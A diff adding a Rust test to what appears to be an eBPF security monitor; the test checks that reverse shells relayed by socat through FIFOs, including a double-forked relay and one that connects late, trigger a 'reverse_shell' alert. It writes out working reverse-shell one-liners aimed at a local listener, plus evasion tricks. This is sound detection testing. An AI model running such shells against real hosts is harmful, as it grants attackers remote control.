@@ -154,3 +154,99 @@ fn a_shell_relayed_through_a_fifo_or_served_by_a_listener_is_a_reverse_shell() {
         "a pipe from a process with no connection alerted: {noisy:#?}"
     );
 }
+
+#[test]
+#[ignore = "needs root (eBPF, real processes): cargo xtask test runs it as root"]
+fn a_relay_that_is_no_relative_or_connects_late_is_found_at_its_connect() {
+    require_root!();
+    if !have("socat") {
+        eprintln!("SKIP: socat not installed (cargo xtask setup installs it)");
+        return;
+    }
+    let m = Monitor::start("", &[]);
+    let dir = TempDir::new_in(&scratch_base(), "late-relay");
+
+    // 1. The shell alone on two FIFOs; long after its exec (past every look at its
+    // relatives), a process of another tree opens them and connects.
+    let (fin, fout) = (dir.0.join("in"), dir.0.join("out"));
+    for f in [&fin, &fout] {
+        let ok = Command::new("mkfifo").arg(f).status().expect("mkfifo");
+        assert!(ok.success());
+    }
+    let script = format!(
+        "exec /bin/sh -i 0<>{} 1<>{} 2>&1",
+        fin.display(),
+        fout.display()
+    );
+    let mut shell = Command::new("sh")
+        .args(["-c", &script])
+        .stdin(Stdio::null())
+        .spawn()
+        .expect("sh");
+    let shell_pid = shell.id();
+    // The shell's exec, and the look 500 ms later, are over before the relay exists.
+    m.sync_events();
+    std::thread::sleep(Duration::from_millis(1500));
+    m.sync_events();
+    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
+    let port = listener.local_addr().expect("addr").port();
+    let peer = accept_one(listener);
+    // Double fork: socat's parent is gone before it connects, so it is no relative.
+    let relay = format!(
+        "socat 'PIPE:{}!!PIPE:{}' TCP:127.0.0.1:{port} </dev/null >/dev/null 2>&1 & echo $!",
+        fout.display(),
+        fin.display()
+    );
+    let out = Command::new("sh")
+        .args(["-c", &relay])
+        .output()
+        .expect("relay");
+    let relay_pid: u32 = String::from_utf8_lossy(&out.stdout)
+        .trim()
+        .parse()
+        .expect("relay pid");
+    let a = m
+        .wait_alert(Duration::from_secs(30), |a| {
+            a["pid"] == shell_pid && has_rule(a, "reverse_shell")
+        })
+        .unwrap_or_else(|| panic!("no alert for the unrelated relay: {:#?}", m.alerts()));
+    assert!(
+        a["reasons"]
+            .to_string()
+            .contains(&format!("pid {relay_pid} ")),
+        "{a:#}"
+    );
+    let held = peer.join().ok().flatten();
+    drop(held);
+    // SAFETY: ending the relay this test started.
+    unsafe { libc::kill(relay_pid as i32, libc::SIGKILL) };
+    let _ = shell.kill();
+    let _ = shell.wait();
+
+    // 2. A relative that connects late: the pipeline's relay waits 1.5 s, then connects.
+    let fifo = dir.0.join("f");
+    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
+    let port = listener.local_addr().expect("addr").port();
+    let peer = accept_one(listener);
+    let script = format!(
+        "mkfifo {f}; /bin/sh -i < {f} 2>&1 | (sleep 1.5; exec socat - TCP:127.0.0.1:{port}) > {f}",
+        f = fifo.display()
+    );
+    let mut outer = Command::new("sh")
+        .args(["-c", &script])
+        .stdin(Stdio::null())
+        .stderr(Stdio::null())
+        .spawn()
+        .expect("sh");
+    let outer_pid = outer.id();
+    let a = m
+        .wait_alert(Duration::from_secs(30), |a| {
+            a["ppid"] == outer_pid && has_rule(a, "reverse_shell")
+        })
+        .unwrap_or_else(|| panic!("no alert for the late relay: {:#?}", m.alerts()));
+    assert!(a["reasons"].to_string().contains("socat"), "{a:#}");
+    let held = peer.join().ok().flatten();
+    drop(held);
+    let _ = outer.kill();
+    let _ = outer.wait();
+}
